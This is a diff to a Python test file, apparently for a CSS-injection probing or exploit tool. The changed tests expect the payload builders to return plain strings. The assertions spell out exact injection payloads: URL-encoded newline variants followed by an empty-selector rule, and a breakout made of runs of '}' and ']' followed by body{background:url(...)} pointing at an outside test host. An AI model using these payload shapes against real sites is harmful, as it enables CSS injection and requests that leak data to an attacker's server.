@@ -36,21 +36,21 @@ def test_nonce_validation():
 def test_reflection_payload_encoding_exact():
     n = generate_nonce(7)
     p = build_reflection_payload(n, NewlineVariant.LF)
-    assert p.encoded_text == "%0A%7B%7Dbody%7Bbackground%3A" + n.value + "%7D"
+    assert p == "%0A%7B%7Dbody%7Bbackground%3A" + n.value + "%7D"
 
 
 def test_reflection_payload_other_newlines():
     n = generate_nonce(7)
     for variant, prefix in [(NewlineVariant.FF, "%0C"), (NewlineVariant.CR, "%0D")]:
         p = build_reflection_payload(n, variant)
-        assert p.encoded_text.startswith(prefix)
-        assert p.encoded_text[3:] == "%7B%7Dbody%7Bbackground%3A" + n.value + "%7D"
+        assert p.startswith(prefix)
+        assert p[3:] == "%7B%7Dbody%7Bbackground%3A" + n.value + "%7D"
 
 
 def test_reflection_payload_decoded_form():
     n = generate_nonce(3)
     p = build_reflection_payload(n, NewlineVariant.LF)
-    decoded = unquote(p.encoded_text)
+    decoded = unquote(p)
     assert decoded.count(n.value) == 1
     assert "<" not in decoded and ">" not in decoded
     # starts with an empty-selector rule, so it is not a complete valid rule
@@ -58,20 +58,19 @@ def test_reflection_payload_decoded_form():
 
 
 def test_newline_variants_are_exactly_three():
-    assert {v.code for v in NewlineVariant} == {"%0A", "%0C", "%0D"}
+    assert {v.value for v in NewlineVariant} == {"%0A", "%0C", "%0D"}
 
 
 def test_exploit_payload_shapes():
     p = build_exploit_payload("http://c.test/i/N", 3)
-    assert p.text == "}}}]]]body{background:url(http://c.test/i/N)}"
+    assert p == "}}}]]]body{background:url(http://c.test/i/N)}"
     p1 = build_exploit_payload("http://c.test/i/N", 1)
-    assert p1.text == "}]body{background:url(http://c.test/i/N)}"
+    assert p1 == "}]body{background:url(http://c.test/i/N)}"
 
 
 def test_exploit_payload_default_closer_count():
     p = build_exploit_payload("http://c.test/x")
-    assert p.closer_count == 20
-    assert p.text.startswith("}" * 20 + "]" * 20)
+    assert p == "}" * 20 + "]" * 20 + "body{background:url(http://c.test/x)}"
 
 
 def test_exploit_payload_rejects_relative_url():
